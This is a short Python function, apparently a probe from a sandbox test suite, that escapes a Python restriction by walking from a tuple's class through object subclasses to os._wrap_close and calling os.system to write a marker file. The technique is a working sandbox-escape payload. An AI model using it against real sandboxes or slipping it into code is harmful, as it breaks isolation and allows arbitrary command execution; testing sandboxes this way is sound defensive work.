# From a tuple to os.system by the object graph, without an import.
def attack(arena):
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            status = cls.__init__.__globals__["system"](f"echo was here > '{arena['marker']}'")
            if status != 0:
                raise Failed(f"the shell ended with {status}")
            return "ran a shell"
    raise Failed("no class leads to os")
